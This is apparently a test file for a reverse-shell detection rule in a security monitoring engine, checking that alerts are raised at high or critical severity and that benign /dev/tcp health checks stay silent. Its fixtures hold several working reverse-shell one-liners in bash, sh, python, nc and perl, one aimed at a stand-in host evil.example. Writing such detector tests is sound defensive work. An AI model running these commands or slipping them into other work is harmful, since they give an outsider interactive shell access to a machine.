import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { EventV1 } from '@vigil/schema';
import { builtinEngine, connect, exec, loud } from '../testing.js';

const RULE = 'shell.reverse-cmdline';
const run = (...events: EventV1[]) => {
  const { engine, alerts } = builtinEngine();
  engine.process(events);
  return alerts;
};
const ranks = (alerts: ReturnType<typeof run>) => alerts.filter((a) => a.ruleId === RULE).map((a) => a.severity);

test('shell.reverse-cmdline: one-liners rank high on the text alone', () => {
  for (const argv of [
    ['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'],
    ['bash', '-c', 'exec 5<>/dev/tcp/10.0.0.1/4242; cat <&5 | while read l; do $l 2>&5 >&5; done'],
    ['sh', '-c', 'sh -i 5<> /dev/udp/evil.example/53 0<&5 1>&5 2>&5'],
    [
      'python3',
      '-c',
      'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",1234));os.dup2(s.fileno(),0)',
    ],
    ['sh', '-c', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f'],
    ['perl', '-e', 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);exec("/bin/sh -i")'],
  ])
    assert.deepEqual(ranks(run(exec(argv))), ['high'], argv.join(' '));
});

test('shell.reverse-cmdline: critical once the process connects to the host it names, with the peer in the reason', () => {
  const argv = ['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'];
  const alerts = run(exec(argv, { pid: 9000 }), connect('10.0.0.1', 4242, { pid: 9000, argv })).filter(
    (a) => a.ruleId === RULE,
  );
  assert.deepEqual(
    alerts.map((a) => a.severity),
    ['high', 'critical'],
  );
  assert.match(
    alerts[1]!.reason,
    /^\/dev\/tcp or \/dev\/udp redirection of a shell’s stdio in bash \(pid 9000\): .*; it connected to 10\.0\.0\.1:4242$/,
  );
  // The connect of the subshell bash forks for the redirection (its argv is its parent's).
  const forked = run(exec(argv, { pid: 9010 }), connect('10.0.0.1', 4242, { pid: 9011, ppid: 9010, argv }));
  assert.deepEqual(ranks(forked), ['high', 'critical']);
  // A connect by a process whose exec raised nothing is not looked at.
  assert.deepEqual(ranks(run(connect('10.0.0.1', 4242, { pid: 9020, argv }))), []);
  // A loopback connect corroborates nothing.
  const py = ['python3', '-c', 'import socket,pty;s=socket.socket();s.connect(("127.0.0.1",9));pty.spawn("sh")'];
  assert.deepEqual(ranks(run(exec(py, { pid: 9001 }), connect('127.0.0.1', 9, { pid: 9001, argv: py }))), ['high']);
});

test('shell.reverse-cmdline: /dev/tcp wait-for-port loops and health checks, or toward loopback, raise nothing', () => {
  const alerts = run(
    exec(['timeout', '1', 'bash', '-c', 'cat </dev/null >/dev/tcp/127.0.0.1/8000']),
    exec(['bash', '-c', 'until </dev/tcp/localhost/8000; do sleep 1; done']),
    exec(['bash', '-c', 'echo > /dev/tcp/127.0.0.1/6379 && echo up']),
    exec(['bash', '-c', 'while ! (exec 3<>/dev/tcp/10.0.0.9/29500) 2>/dev/null; do sleep 1; done']),
    exec(['bash', '-c', 'echo ping > /dev/tcp/10.0.0.9/9000']),
    exec(['bash', '-i', '-c', 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1']),
  );
  assert.deepEqual(
    alerts.map((a) => `${a.ruleId}: ${a.reason}`),
    [],
  );
  assert.deepEqual(loud(alerts), []);
});
